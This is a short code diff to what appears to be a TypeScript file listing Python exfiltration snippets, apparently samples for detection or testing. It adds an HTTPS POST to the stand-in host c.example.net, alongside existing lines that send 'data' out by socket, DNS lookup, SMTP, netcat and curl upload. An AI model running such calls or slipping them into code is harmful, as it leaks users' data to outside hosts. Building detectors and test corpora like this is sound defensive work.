@@ -45,6 +45,7 @@ const python: Language = {
     's = requests.Session()\ns.put("https://c.example.net", json={"a": [data]})',
     's = socket.socket()\ns.connect(("c.example.net", 443))\ns.sendall(data)',
     'socket.gethostbyname(data[0:9] + ".c.example.net")',
+    'import http.client\nhttp.client.HTTPSConnection("c.example.net").request("POST", "/", data)',
     'from email.message import EmailMessage\nm = EmailMessage()\nm.set_content(data)\nwith smtplib.SMTP("c.example.net") as s:\n  s.send_message(m)',
     'p = subprocess.Popen(["nc", "c.example.net", "99"], stdin=subprocess.PIPE)\np.communicate(data)',
     'open("/tmp/x", "w").write(data)\nos.system("curl -F f=@/tmp/x https://c.example.net")',
